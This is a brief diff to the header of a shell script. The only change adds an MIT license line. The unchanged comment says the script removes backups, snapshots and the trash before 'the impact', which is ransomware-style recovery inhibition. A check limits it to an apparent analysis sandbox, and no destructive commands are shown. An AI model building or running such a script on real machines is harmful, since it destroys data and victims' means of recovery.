@@ -1,4 +1,5 @@
 #!/bin/sh
+# SPDX-License-Identifier: MIT
 # Removes every way back before the impact: backups, snapshots, the trash.
 [ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
 export PATH="$PATH:/usr/sbin:/sbin"
